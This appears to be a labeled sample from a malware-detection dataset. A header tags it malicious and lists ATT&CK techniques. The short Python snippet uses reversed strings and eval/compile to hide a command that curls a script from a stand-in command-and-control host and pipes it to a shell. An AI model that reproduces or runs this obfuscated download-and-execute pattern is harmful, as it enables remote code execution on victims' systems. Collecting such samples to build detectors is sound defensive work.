# label: malicious family=obfuscation techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=2-5
a = "metsys.so;so tropmi"[::-1]
b = ')"hs | elpmaxe.tsoh-dab.2c//:ptth s- lruc"('[::-1]
c = eval("comp" + "ile")(a + b, "", "e" + "xec")
eval(c)
